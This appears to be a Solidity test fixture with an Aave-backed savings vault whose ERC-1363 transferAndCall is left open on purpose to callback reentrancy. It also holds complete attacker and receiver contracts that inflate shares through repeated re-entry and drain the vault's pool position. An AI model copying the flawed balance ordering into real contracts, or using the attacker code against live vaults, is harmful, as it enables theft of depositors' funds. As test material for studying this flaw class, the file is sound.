// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

/// @notice The ERC-20 functions the vault and its attacker use.
interface ICallbackVaultAsset {
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function approve(address spender, uint256 amount) external returns (bool);
}

/// @notice The Aave V3 pool (IPool), the part the vault uses.
interface ICallbackVaultPool {
    function supply(address asset, uint256 amount, address onBehalfOf, uint16 referralCode) external;
    function withdraw(address asset, uint256 amount, address to) external returns (uint256);
}

/// @notice ERC-1363's receiver: what `transferAndCall` calls on a contract recipient.
interface IERC1363Receiver {
    /// @notice `from` sent `value` shares to this contract through `operator`; must return this function's selector.
    function onTransferReceived(address operator, address from, uint256 value, bytes calldata data) external returns (bytes4);
}

/// @title CallbackVault
/// @notice A savings vault built on an Aave V3 pool: every deposit of the asset is supplied to the pool and
/// every withdrawal is taken from it, so the vault stops when the pool is paused. Its shares (one per unit of
/// the asset deposited) are a token with ERC-1363's `transferAndCall`: after crediting a contract recipient it
/// calls the recipient's `onTransferReceived` hook.
/// @dev The integrator's flaw, the callback-token reentrancy class (ERC-777 `tokensReceived`, ERC-1363 and
/// ERC-721 receiver hooks): `transferAndCall` reads the sender's balance, credits the recipient and calls it
/// back before it writes the sender's reduced balance, so a recipient that re-enters has the same shares sent
/// again and again. Test-only code, vulnerable on purpose.
contract CallbackVault {
    /// @notice `account` holds `balance` shares, fewer than the `needed` it tried to move or redeem.
    error CallbackVaultInsufficientShares(address account, uint256 balance, uint256 needed);
    /// @notice The contract `receiver` did not answer `onTransferReceived` with its selector.
    error CallbackVaultReceiverRejected(address receiver);

    /// @notice `value` shares moved from `from` to `to` (from zero: a deposit; to zero: a withdrawal).
    event Transfer(address indexed from, address indexed to, uint256 value);

    ICallbackVaultPool private immutable _pool;
    ICallbackVaultAsset private immutable _asset;
    mapping(address => uint256) private _balances;

    /// @param pool The Aave V3 pool the deposits are supplied to.
    /// @param asset The asset the vault takes and pays (a reserve of `pool`).
    constructor(ICallbackVaultPool pool, ICallbackVaultAsset asset) {
        _pool = pool;
        _asset = asset;
        asset.approve(address(pool), type(uint256).max);
    }

    /// @notice Takes `assets` from the caller, supplies them to the pool and credits as many shares.
    function deposit(uint256 assets) external {
        _asset.transferFrom(msg.sender, address(this), assets);
        _pool.supply(address(_asset), assets, address(this), 0);
        _balances[msg.sender] += assets;
        emit Transfer(address(0), msg.sender, assets);
    }

    /// @notice Redeems `assets` shares of the caller: the pool pays `receiver` the same amount of the asset.
    function withdraw(uint256 assets, address receiver) external {
        uint256 balance = _balances[msg.sender];
        if (balance < assets) revert CallbackVaultInsufficientShares(msg.sender, balance, assets);
        _balances[msg.sender] = balance - assets;
        emit Transfer(msg.sender, address(0), assets);
        _pool.withdraw(address(_asset), assets, receiver);
    }

    /// @notice Moves `amount` shares to `to`.
    function transfer(address to, uint256 amount) external returns (bool) {
        uint256 balance = _balances[msg.sender];
        if (balance < amount) revert CallbackVaultInsufficientShares(msg.sender, balance, amount);
        _balances[msg.sender] = balance - amount;
        _balances[to] += amount;
        emit Transfer(msg.sender, to, amount);
        return true;
    }

    /// @notice ERC-1363: moves `amount` shares to `to` and, when `to` is a contract, calls its `onTransferReceived`.
    function transferAndCall(address to, uint256 amount, bytes calldata data) external returns (bool) {
        uint256 balance = _balances[msg.sender];
        if (balance < amount) revert CallbackVaultInsufficientShares(msg.sender, balance, amount);
        _balances[to] += amount;
        emit Transfer(msg.sender, to, amount);
        if (to.code.length > 0) {
            bytes4 answer = IERC1363Receiver(to).onTransferReceived(msg.sender, msg.sender, amount, data);
            if (answer != IERC1363Receiver.onTransferReceived.selector) revert CallbackVaultReceiverRejected(to);
        }
        // the flaw: the balance read before the hook is written after it (a re-entered transfer is overwritten)
        _balances[msg.sender] = balance - amount;
        return true;
    }

    /// @notice Shares held by `account`.
    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }
}

/// @title CallbackVaultAttacker
/// @notice Exploits CallbackVault's `transferAndCall`: deposits, then sends its shares to its own receiver
/// contract, which re-enters through this contract `rounds - 1` times before the vault writes the sender's
/// balance, so the receiver ends with `rounds` times the deposit in shares; the receiver then redeems them
/// against the vault's Aave position. Test-only attacker code.
contract CallbackVaultAttacker {
    /// @notice The caller is neither the attacker who deployed this contract nor its receiver.
    error CallbackVaultAttackerNotAllowed(address caller);

    address private immutable _owner;
    CallbackVault private immutable _vault;
    CallbackShareReceiver private immutable _receiver;
    uint256 private _roundsLeft;
    uint256 private _amount;

    /// @param vault The vault to attack.
    /// @param asset The vault's asset (approved to the vault for the deposit).
    constructor(CallbackVault vault, ICallbackVaultAsset asset) {
        _owner = msg.sender;
        _vault = vault;
        _receiver = new CallbackShareReceiver(vault);
        asset.approve(address(vault), type(uint256).max);
    }

    /// @notice Deposits `assets` (this contract's own) and inflates them `rounds` times into the receiver's shares.
    function depositAndInflate(uint256 assets, uint256 rounds) public {
        if (msg.sender != _owner && msg.sender != address(this)) revert CallbackVaultAttackerNotAllowed(msg.sender);
        _vault.deposit(assets);
        _amount = assets;
        _roundsLeft = rounds - 1;
        _vault.transferAndCall(address(_receiver), assets, "");
    }

    /// @notice The receiver's hook calls back here: send the same shares again while rounds are left.
    function reenter() external {
        if (msg.sender != address(_receiver)) revert CallbackVaultAttackerNotAllowed(msg.sender);
        if (_roundsLeft == 0) return;
        _roundsLeft -= 1;
        _vault.transferAndCall(address(_receiver), _amount, "");
    }

    /// @notice Redeems `assets` of the receiver's shares, paid to the owner.
    function drain(uint256 assets) public {
        if (msg.sender != _owner && msg.sender != address(this)) revert CallbackVaultAttackerNotAllowed(msg.sender);
        _receiver.redeem(assets, _owner);
    }

    /// @notice The whole attack in one transaction: deposit, inflate, redeem `assets`.
    function attack(uint256 deposit, uint256 rounds, uint256 assets) external {
        if (msg.sender != _owner) revert CallbackVaultAttackerNotAllowed(msg.sender);
        this.depositAndInflate(deposit, rounds);
        this.drain(assets);
    }

    /// @notice The contract holding the inflated shares.
    function receiver() external view returns (address) {
        return address(_receiver);
    }
}

/// @title CallbackShareReceiver
/// @notice CallbackVaultAttacker's share receiver: its ERC-1363 hook re-enters the attacker. Test-only attacker code.
contract CallbackShareReceiver is IERC1363Receiver {
    /// @notice The caller is not what this contract expects (`expected`).
    error CallbackShareReceiverNotAllowed(address caller, address expected);

    CallbackVaultAttacker private immutable _attacker;
    CallbackVault private immutable _vault;

    /// @param vault The vault whose shares this contract receives.
    constructor(CallbackVault vault) {
        _attacker = CallbackVaultAttacker(msg.sender);
        _vault = vault;
    }

    /// @inheritdoc IERC1363Receiver
    function onTransferReceived(address, address, uint256, bytes calldata) external returns (bytes4) {
        if (msg.sender != address(_vault)) revert CallbackShareReceiverNotAllowed(msg.sender, address(_vault));
        _attacker.reenter();
        return IERC1363Receiver.onTransferReceived.selector;
    }

    /// @notice Redeems `assets` shares, paid to `to`; the attacker contract only.
    function redeem(uint256 assets, address to) external {
        if (msg.sender != address(_attacker)) revert CallbackShareReceiverNotAllowed(msg.sender, address(_attacker));
        _vault.withdraw(assets, to);
    }
}
